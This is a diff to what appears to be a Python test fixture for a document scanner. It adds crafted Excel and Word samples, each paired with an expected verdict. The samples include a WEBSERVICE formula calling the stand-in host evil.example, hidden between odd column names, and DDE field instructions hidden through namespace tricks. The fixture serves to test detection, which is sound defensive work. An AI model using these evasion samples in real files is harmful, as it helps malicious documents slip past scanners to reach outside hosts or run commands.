@@ -1,7 +1,7 @@
 """Documents whose parts some readers find and others take for text: each with its verdict."""
 
-from tests.backend.hostile_documents import JS, PDF, XLSX, Made
-from tests.backend.papers_made import formula, objects_in_stream, packed, pdf, stream
+from tests.backend.hostile_documents import DOCX, JS, PDF, XLSX, Made
+from tests.backend.papers_made import docx, formula, objects_in_stream, packed, pdf, stream
 
 HIDDEN: dict[str, tuple[str, Made, str]] = {
     "pdf with a form behind a bracket that is none": (
@@ -21,6 +21,19 @@ HIDDEN: dict[str, tuple[str, Made, str]] = {
     "excel that asks the web between odd names": (
         XLSX, lambda: formula("'\"'!A1&amp;_xlfn.WEBSERVICE(\"https://evil.example\")"
                               "&amp;'\"'!A1"), "FILE_LINKS"),
+    "excel that asks the web between odd columns": (
+        XLSX, lambda: formula('T[a"b]&amp;_xlfn.WEBSERVICE("https://evil.example")&amp;T[a"b]'),
+        "FILE_LINKS"),
+    "word with dde beside another's instruction": (
+        DOCX, lambda: docx('<w:fldSimple xmlns:x="x" x:instr="DATE" w:instr="DDE a b"/>'),
+        "FILE_BROKEN"),
+    "word with dde that begins beside another's end": (
+        DOCX, lambda: docx('<w:fldChar xmlns:x="x" w:fldCharType="begin"/><w:instrText>DATE'
+                           '</w:instrText><w:fldChar xmlns:x="x" x:fldCharType="begin"'
+                           ' w:fldCharType="end"/>'), "FILE_BROKEN"),
+    "word with dde that never ends": (
+        DOCX, lambda: docx('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE a b</w:instrText>'),
+        "FILE_LINKS"),
     "pdf with a stream in a remark": (
         PDF, lambda: pdf(catalog=b"/A 1 %stream\n/AcroForm<</XFA 5 0 R>>\n%endstream\n"),
         "FILE_BROKEN"),
